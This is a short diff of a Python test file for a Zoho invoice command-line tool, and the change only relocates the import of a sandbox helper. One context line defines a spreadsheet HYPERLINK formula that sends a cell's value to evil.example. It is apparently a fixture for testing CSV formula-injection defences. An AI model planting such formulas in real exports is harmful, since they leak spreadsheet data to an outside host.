@@ -27,8 +27,8 @@ from zoho_invoice.cli._csv import csv_cell
 from zoho_invoice.cli._demo import demo_settings, prepare_demo
 from zoho_invoice.cli._invoices import export_invoices
 from zoho_invoice.cli._sandbox import seed_sandbox_folder
-from zoho_invoice.sandbox import running_sandbox
 from zoho_invoice.vault import KeyRing
+from zoho_invoice_sandbox import running_sandbox
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
 posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
